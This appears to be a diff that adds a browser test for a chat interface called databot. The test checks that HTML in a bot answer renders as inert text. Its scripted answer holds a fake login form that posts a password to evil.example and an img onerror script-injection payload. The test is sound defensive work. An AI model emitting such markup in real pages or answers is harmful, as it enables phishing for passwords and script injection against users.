@@ -150,6 +150,32 @@ test("while databot works, the page shows each step, the code being run and the 
   expect(problems).toEqual([]);
 });
 
+test("an answer carrying HTML shows it as text: placeholders stay visible, and no form, field or button appears", async () => {
+  await page.close();
+  await bot.close();
+  const backend = new ScriptedBackend({
+    script: (context) => ({
+      ...defaultScript(context),
+      text:
+        "Try *chart of <measure> by <category>*.\n\n" +
+        '<form action="https://evil.example/login"><input name="password"><button>Sign in again</button></form>\n\n' +
+        'Or <img src="x" onerror="globalThis.__owned = true"> <textarea>notes</textarea> **done**.',
+    }),
+  });
+  bot = await startTestDatabot({ env: { WEB_CHAT: "true" }, backend });
+  page = await browser.newPage({ viewport: { width: 1280, height: 860 } });
+  await page.goto(bot.url);
+  await page.getByLabel("Message").fill("help me");
+  await page.getByLabel("Message").press("Enter");
+  await expectText(".entry-bot .markdown em", "chart of <measure> by <category>");
+  const answer = page.locator(".entry-bot .markdown").last();
+  expect(await answer.locator("form, input, button, textarea, img").count()).toBe(0);
+  await expectText(".entry-bot .markdown", "<button>Sign in again</button>");
+  await expectText(".entry-bot .markdown strong", "done");
+  expect(await page.evaluate(() => (globalThis as { __owned?: boolean }).__owned)).toBeUndefined();
+  expect(problems).toEqual([]);
+});
+
 async function expectText(selector: string, text: string): Promise<void> {
   await page.locator(selector, { hasText: text }).first().waitFor();
 }
